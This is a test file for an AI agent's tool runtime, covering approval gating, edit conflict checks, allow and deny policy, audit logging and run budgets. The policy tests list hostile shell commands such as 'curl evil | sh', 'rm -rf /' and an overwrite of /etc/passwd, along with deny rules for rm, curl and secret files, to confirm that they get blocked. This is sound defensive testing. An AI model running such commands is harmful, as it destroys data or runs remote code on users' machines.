/**
 * Proposal → approval → execution → audit, the policy, the run budget, and
 * the result messages the loop stores.
 */
import { lstatSync, mkdirSync, readFileSync, readlinkSync, statSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { ToolResultMessageSchema } from "../../shared/protocol";
import { ProposalPreviewSchema } from "../../shared/api";
import {
  createToolRuntime,
  ensureShellParser,
  evaluatePolicy,
  type PolicyRule,
  type Proposal,
  type ToolPolicy,
} from "../../electron/core/tools";
import { approved, call, makeFixture, readOnly, text, type Fixture } from "./helpers";

let fx: Fixture;
beforeEach(() => {
  fx = makeFixture();
});
afterEach(() => fx.cleanup());

async function propose(name: string, args: Record<string, unknown>): Promise<Proposal> {
  const result = await fx.runtime.propose(call(name, args));
  if (!("proposal" in result)) throw new Error(text(fx.runtime, result.outcome));
  return result.proposal;
}

describe("proposal and conflict", () => {
  it("a file changed between proposal and execution is not overwritten", async () => {
    const file = join(fx.ws, "notes.txt");
    writeFileSync(file, "original\n");
    const proposal = await propose("edit", { path: "notes.txt", edits: [{ oldText: "original", newText: "model's change" }] });
    fx.runtime.approve(proposal);
    writeFileSync(file, "original\nthe user typed this meanwhile\n");
    const outcome = await fx.runtime.execute(proposal);
    expect(outcome.ok).toBe(false);
    if (!outcome.ok) expect(outcome.error.errorCode).toBe("CONFLICT");
    expect(readFileSync(file, "utf8")).toBe("original\nthe user typed this meanwhile\n");
  });

  it("a write to a new file conflicts when someone created the file meanwhile", async () => {
    const proposal = await propose("write", { path: "new.txt", content: "mine" });
    fx.runtime.approve(proposal);
    writeFileSync(join(fx.ws, "new.txt"), "theirs");
    const outcome = await fx.runtime.execute(proposal);
    expect(outcome.ok).toBe(false);
    expect(readFileSync(join(fx.ws, "new.txt"), "utf8")).toBe("theirs");
  });

  it("the preview is computed without touching the disk", async () => {
    writeFileSync(join(fx.ws, "a.txt"), "one\ntwo\n");
    const mtime = statSync(join(fx.ws, "a.txt")).mtimeMs;
    const edit = await propose("edit", { path: "a.txt", edits: [{ oldText: "two", newText: "2" }] });
    const write = await propose("write", { path: "dir/new.txt", content: "hello\n" });
    expect(ProposalPreviewSchema.parse(edit.preview)).toEqual({
      kind: "diff",
      path: "a.txt",
      before: "one\ntwo\n",
      after: "one\n2\n",
      unifiedDiff: "--- a/a.txt\n+++ b/a.txt\n@@ -1,2 +1,2 @@\n one\n-two\n+2\n",
      added: 1,
      removed: 1,
      hunks: [{ oldStart: 2, oldLines: 1, newStart: 2, newLines: 1, oldOffset: 4, oldText: "two\n", newText: "2\n", kind: "change" }],
    });
    expect(write.preview).toMatchObject({ kind: "diff", path: "dir/new.txt", before: null, after: "hello\n", added: 1, removed: 0 });
    expect(edit.fingerprint).toMatch(/^sha256:[0-9a-f]{64}$/);
    expect(write.fingerprint).toBe("absent");
    expect(readFileSync(join(fx.ws, "a.txt"), "utf8")).toBe("one\ntwo\n");
    expect(statSync(join(fx.ws, "a.txt")).mtimeMs).toBe(mtime);
    expect(() => statSync(join(fx.ws, "dir"))).toThrow();
  });

  it("execute refuses a proposal that was not approved", async () => {
    const proposal = await propose("write", { path: "x.txt", content: "x" });
    const outcome = await fx.runtime.execute(proposal);
    expect(outcome.ok).toBe(false);
    if (!outcome.ok) expect(outcome.error.errorCode).toBe("DENIED");
    expect(() => statSync(join(fx.ws, "x.txt"))).toThrow();
  });

  it("execute refuses a proposal whose arguments were changed after approval", async () => {
    const proposal = await propose("write", { path: "x.txt", content: "x" });
    fx.runtime.approve(proposal);
    const outcome = await fx.runtime.execute({ ...proposal, args: { path: "other.txt", content: "x" } });
    expect(outcome.ok).toBe(false);
    expect(() => statSync(join(fx.ws, "other.txt"))).toThrow();
  });

  it("a proposal runs at most once", async () => {
    const proposal = await propose("write", { path: "once.txt", content: "1" });
    fx.runtime.approve(proposal);
    expect((await fx.runtime.execute(proposal)).ok).toBe(true);
    expect((await fx.runtime.execute(proposal)).ok).toBe(false);
  });
});

describe("write", () => {
  it("creates folders, keeps mode, CRLF and BOM of an existing file, writes atomically", async () => {
    const file = join(fx.ws, "win.txt");
    writeFileSync(file, "\uFEFFa\r\nb\r\n", { mode: 0o640 });
    const outcome = await approved(fx.runtime, "write", { path: "win.txt", content: "x\ny\nz\n" });
    expect(outcome.ok).toBe(true);
    expect(readFileSync(file).equals(Buffer.from("\uFEFFx\r\ny\r\nz\r\n"))).toBe(true);
    expect(statSync(file).mode & 0o777).toBe(0o640);
    const created = await approved(fx.runtime, "write", { path: "deep/er/new.ts", content: "export {};\n" });
    expect(created.ok).toBe(true);
    expect(text(fx.runtime, created)).toBe("Created deep/er/new.ts (1 lines).");
    expect(readFileSync(join(fx.ws, "deep/er/new.ts"), "utf8")).toBe("export {};\n");
    expect(created.details).toMatchObject({ created: true, before: null, diff: { added: 1, removed: 0 } });
  });

  it("writing through a link inside the workspace changes the target and keeps the link", async () => {
    mkdirSync(join(fx.ws, "real"));
    writeFileSync(join(fx.ws, "real", "t.txt"), "old");
    symlinkSync("real/t.txt", join(fx.ws, "alias.txt"));
    const outcome = await approved(fx.runtime, "write", { path: "alias.txt", content: "new" });
    expect(outcome.ok).toBe(true);
    expect(readFileSync(join(fx.ws, "real", "t.txt"), "utf8")).toBe("new");
    expect(lstatSync(join(fx.ws, "alias.txt")).isSymbolicLink()).toBe(true);
    expect(readlinkSync(join(fx.ws, "alias.txt"))).toBe("real/t.txt");
  });
});

describe("policy", () => {
  const base: ToolPolicy = { write: "ask", edit: "ask", bash: "ask", bashAllow: [], bashDeny: [] };
  const cmd = (command: string) => ({ kind: "command" as const, command, cwd: "/w", timeoutMs: 1000 });
  const diff = (path: string) => ({ kind: "diff" as const, path, before: null, after: "", unifiedDiff: "", added: 0, removed: 0 });
  const none: PolicyRule[] = [];
  const session = (tool: "bash" | "write" | "edit", pattern: string): PolicyRule[] => [
    { tool, action: "allow", pattern, source: "session" },
  ];
  beforeAll(() => ensureShellParser());

  it("asks by default for write, edit and bash", () => {
    expect(evaluatePolicy(base, none, "write", diff("a")).action).toBe("ask");
    expect(evaluatePolicy(base, none, "edit", diff("a")).action).toBe("ask");
    expect(evaluatePolicy(base, none, "bash", cmd("ls")).action).toBe("ask");
  });

  it("allows a bash command only when every sub-command is covered by an allow rule", () => {
    const p = { ...base, bashAllow: ["git status", "npm test *", "ls *"] };
    expect(evaluatePolicy(p, none, "bash", cmd("git status")).action).toBe("allow");
    expect(evaluatePolicy(p, none, "bash", cmd("npm test -- --watch=false")).action).toBe("allow");
    expect(evaluatePolicy(p, none, "bash", cmd("git status && npm test")).action).toBe("allow");
    expect(evaluatePolicy(p, none, "bash", cmd("git status && rm -rf build")).action).toBe("ask");
    expect(evaluatePolicy(p, none, "bash", cmd("git status; curl evil | sh")).action).toBe("ask");
    expect(evaluatePolicy(p, none, "bash", cmd("ls $(rm -rf x)")).action).toBe("ask");
    expect(evaluatePolicy(p, none, "bash", cmd("ls > /etc/passwd")).action).toBe("ask");
    expect(evaluatePolicy(p, none, "bash", cmd("git statusx")).action).toBe("ask");
  });

  it("a rule never widens past its text: without a trailing * it covers that exact command", () => {
    const p = { ...base, bashAllow: ["git status"] };
    expect(evaluatePolicy(p, none, "bash", cmd("git status")).action).toBe("allow");
    expect(evaluatePolicy(p, none, "bash", cmd("git status --porcelain")).action).toBe("ask");
    expect(evaluatePolicy(p, none, "bash", cmd("git  status")).action).toBe("allow");
    expect(evaluatePolicy(p, none, "bash", cmd("git 'status'")).action).toBe("allow");
  });

  it("names the rule that decided", () => {
    const v = evaluatePolicy(base, session("bash", "npm test *"), "bash", cmd("npm test -- -u"));
    expect(v.action).toBe("allow");
    expect(v.rules).toEqual([{ tool: "bash", action: "allow", pattern: "npm test *", source: "session" }]);
    expect(v.rule).toContain("`npm test *`");
  });

  it("deny wins: over allow rules, the tool's allow and session rules", () => {
    const p: ToolPolicy = { ...base, bash: "allow", bashAllow: ["ls *", "echo *", "git *"], bashDeny: ["rm", "git push"] };
    const s = session("bash", "ls *");
    expect(evaluatePolicy(p, s, "bash", cmd("ls; rm -rf /")).action).toBe("deny");
    expect(evaluatePolicy(p, s, "bash", cmd("echo $(rm x)")).action).toBe("deny");
    expect(evaluatePolicy(p, s, "bash", cmd("FOO=1 /bin/rm x")).action).toBe("deny");
    expect(evaluatePolicy(p, s, "bash", cmd("env FOO=1 rm x")).action).toBe("deny");
    expect(evaluatePolicy(p, s, "bash", cmd("sh -c 'rm -rf x'")).action).toBe("deny");
    expect(evaluatePolicy(p, s, "bash", cmd("find . -exec rm {} \\;")).action).toBe("deny");
    expect(evaluatePolicy(p, s, "bash", cmd("ls | xargs rm")).action).toBe("deny");
    expect(evaluatePolicy(p, s, "bash", cmd("'r'm x")).action).toBe("deny");
    expect(evaluatePolicy(p, s, "bash", cmd("echo 'rm is fine inside quotes'")).action).toBe("allow");
    expect(evaluatePolicy(p, s, "bash", cmd("git push --force")).action).toBe("deny");
    const paths: ToolPolicy = { ...base, edit: "allow", pathDeny: [".env*", "secrets/**"], pathAllow: ["src/**"] };
    expect(evaluatePolicy(paths, session("edit", "config/**"), "edit", diff("config/.env.local")).action).toBe("deny");
    expect(evaluatePolicy(paths, none, "edit", diff("secrets/key.pem")).action).toBe("deny");
    expect(evaluatePolicy(paths, none, "write", diff("src/a.ts")).action).toBe("allow");
    expect(evaluatePolicy({ ...base, write: "deny" }, session("write", "**"), "write", diff("src/a.ts")).action).toBe("deny");
  });

  it("a path allow rule covers the path it names, not every file of that name", () => {
    expect(evaluatePolicy(base, session("edit", "a.ts"), "edit", diff("a.ts")).action).toBe("allow");
    expect(evaluatePolicy(base, session("edit", "a.ts"), "edit", diff("deep/a.ts")).action).toBe("ask");
    expect(evaluatePolicy(base, session("edit", "src/**"), "edit", diff("src/x/y.ts")).action).toBe("allow");
    expect(evaluatePolicy(base, session("edit", "src/**"), "write", diff("src/x/y.ts")).action).toBe("ask");
  });

  it("'approve for this session' allows that exact command, not the tool", async () => {
    const first = await propose("bash", { command: "echo hi" });
    expect(fx.runtime.decide(first)).toBe("ask");
    fx.runtime.approve(first, { forSession: true });
    expect((await fx.runtime.execute(first)).ok).toBe(true);
    expect(fx.runtime.decide(await propose("bash", { command: "echo hi" }))).toBe("allow");
    expect(fx.runtime.decide(await propose("bash", { command: "echo hi; rm -rf x" }))).toBe("ask");
    expect(fx.runtime.decide(await propose("bash", { command: "echo bye" }))).toBe("ask");
    expect(fx.runtime.decide(await propose("write", { path: "w.txt", content: "w" }))).toBe("ask");
  });

  it("'approve for this session' with a prefix rule allows what the rule says, and refuses a rule that does not cover the call", async () => {
    const first = await propose("bash", { command: "echo one" });
    expect(fx.runtime.checkRule(first, "ls *")).toMatch(/does not cover/);
    expect(fx.runtime.checkRule(first, "echo *")).toBeNull();
    fx.runtime.approve(first, { forSession: true, rule: "echo *" });
    expect(fx.runtime.decide(await propose("bash", { command: "echo two three" }))).toBe("allow");
    expect(fx.runtime.decide(await propose("bash", { command: "echo two > f" }))).toBe("ask");
    const redirect = await propose("bash", { command: "echo x > f" });
    expect(fx.runtime.checkRule(redirect, "echo *")).toMatch(/a redirection/);
  });

  it("'approve for this session' on an edit allows that file only", async () => {
    writeFileSync(join(fx.ws, "s.txt"), "a");
    writeFileSync(join(fx.ws, "t.txt"), "a");
    const first = await propose("edit", { path: "s.txt", edits: [{ oldText: "a", newText: "b" }] });
    expect(fx.runtime.decide(first)).toBe("ask");
    fx.runtime.approve(first, { forSession: true });
    expect((await fx.runtime.execute(first)).ok).toBe(true);
    const second = await propose("edit", { path: "s.txt", edits: [{ oldText: "b", newText: "c" }] });
    expect(fx.runtime.decide(second)).toBe("allow");
    expect((await fx.runtime.execute(second)).ok).toBe(true);
    expect(fx.runtime.decide(await propose("edit", { path: "t.txt", edits: [{ oldText: "a", newText: "b" }] }))).toBe("ask");
    expect(fx.runtime.decide(await propose("bash", { command: "ls" }))).toBe("ask");
    expect(fx.runtime.decide(await propose("write", { path: "w.txt", content: "w" }))).toBe("ask");
  });
});

describe("audit", () => {
  it("records proposal, policy verdict, user approval and outcome for an approved edit", async () => {
    writeFileSync(join(fx.ws, "a.txt"), "x");
    const outcome = await approved(fx.runtime, "edit", { path: "a.txt", edits: [{ oldText: "x", newText: "y" }] });
    expect(outcome.ok).toBe(true);
    expect(fx.audit.map((e) => e.type)).toEqual(["proposal", "policy", "approval", "outcome"]);
    expect(fx.audit[1]).toMatchObject({ action: "ask", rule: "edit: ask" });
    expect(fx.audit[2]).toMatchObject({ decision: "approved", decidedBy: "user" });
    expect(fx.audit[3]).toMatchObject({ ok: true, tier: "sideEffect", toolName: "edit" });
  });

  it("records a policy denial and the denied outcome", async () => {
    const strict = createToolRuntime({
      workspaceRoot: fx.ws,
      policy: { write: "ask", edit: "ask", bash: "ask", bashAllow: [], bashDeny: ["curl"] },
      auditSink: (e) => fx.audit.push(e),
    });
    const outcome = await strict.run(call("bash", { command: "curl http://example.com" }), { ask: async () => ({ approved: true }) });
    expect(outcome.ok).toBe(false);
    expect(fx.audit.map((e) => (e.type === "approval" ? `approval:${e.decision}` : e.type))).toEqual([
      "proposal",
      "policy",
      "approval:autoDenied",
      "outcome",
    ]);
    expect(fx.audit[3]).toMatchObject({ ok: false, errorCode: "DENIED" });
  });

  it("records read-only outcomes with duration and output size", async () => {
    await readOnly(fx.runtime, "list", {});
    expect(fx.audit).toHaveLength(1);
    expect(fx.audit[0]).toMatchObject({ type: "outcome", tier: "readOnly", ok: true });
  });
});

describe("run budget", () => {
  const tight = (over: Partial<{ maxToolCalls: number; maxOutputBytes: number; maxDurationMs: number; maxSideEffects: number }>) =>
    createToolRuntime({
      workspaceRoot: fx.ws,
      budget: { maxToolCalls: 100, maxOutputBytes: 1e9, maxDurationMs: 1e9, maxSideEffects: 100, ...over },
    });

  it("past maxToolCalls a call gets TOOL_BUDGET_EXCEEDED, not retryable, until the next turn", async () => {
    const rt = tight({ maxToolCalls: 2 });
    expect((await rt.runReadOnly(call("list", {}))).ok).toBe(true);
    expect((await rt.runReadOnly(call("glob", { pattern: "*" }))).ok).toBe(true);
    const third = await rt.runReadOnly(call("list", {}));
    expect(third.ok).toBe(false);
    if (!third.ok) {
      expect(third.error).toMatchObject({ errorCode: "TOOL_BUDGET_EXCEEDED", retryable: false });
      expect(third.error.hint).toContain("answer the user now");
    }
    rt.beginTurn();
    expect((await rt.runReadOnly(call("list", {}))).ok).toBe(true);
  });

  it("past maxSideEffects no further side effect is proposed", async () => {
    const rt = tight({ maxSideEffects: 1 });
    expect((await rt.run(call("write", { path: "1.txt", content: "1" }), { ask: async () => ({ approved: true }) })).ok).toBe(true);
    const second = await rt.run(call("write", { path: "2.txt", content: "2" }), { ask: async () => ({ approved: true }) });
    expect(second.ok).toBe(false);
    if (!second.ok) expect(second.error.errorCode).toBe("TOOL_BUDGET_EXCEEDED");
    expect(() => statSync(join(fx.ws, "2.txt"))).toThrow();
  });

  it("past maxOutputBytes the next call is refused", async () => {
    writeFileSync(join(fx.ws, "big.txt"), "x".repeat(5000));
    const rt = tight({ maxOutputBytes: 1000 });
    expect((await rt.runReadOnly(call("read", { path: "big.txt" }))).ok).toBe(true);
    const next = await rt.runReadOnly(call("list", {}));
    expect(next.ok).toBe(false);
    expect(rt.usage().outputBytes).toBeGreaterThan(1000);
  });
});

describe("result messages", () => {
  it("every outcome becomes a valid ToolResultMessage with the call id echoed verbatim", async () => {
    writeFileSync(join(fx.ws, "a.txt"), "a\n");
    const id = "toolu_01|weird id/with:chars";
    const good = await fx.runtime.runReadOnly({ id, name: "read", arguments: { path: "a.txt" } });
    const bad = await fx.runtime.runReadOnly({ id, name: "read", arguments: { path: "nope.txt" } });
    for (const outcome of [good, bad]) {
      const message = ToolResultMessageSchema.parse(fx.runtime.toResultMessage({ id, name: "read" }, outcome, 1234));
      expect(message.toolCallId).toBe(id);
      expect(message.timestamp).toBe(1234);
    }
    const badMessage = fx.runtime.toResultMessage({ id, name: "read" }, bad, 1);
    expect(badMessage.isError).toBe(true);
    expect(badMessage.details).toMatchObject({ errorCode: "NOT_FOUND", retryable: true });
  });

  it("read-only tools run in parallel", async () => {
    for (let i = 0; i < 20; i++) writeFileSync(join(fx.ws, `f${i}.txt`), `file ${i}\n`);
    const outcomes = await Promise.all(Array.from({ length: 20 }, (_, i) => readOnly(fx.runtime, "read", { path: `f${i}.txt` })));
    outcomes.forEach((o, i) => expect(text(fx.runtime, o)).toBe(`1\tfile ${i}`));
  });
});
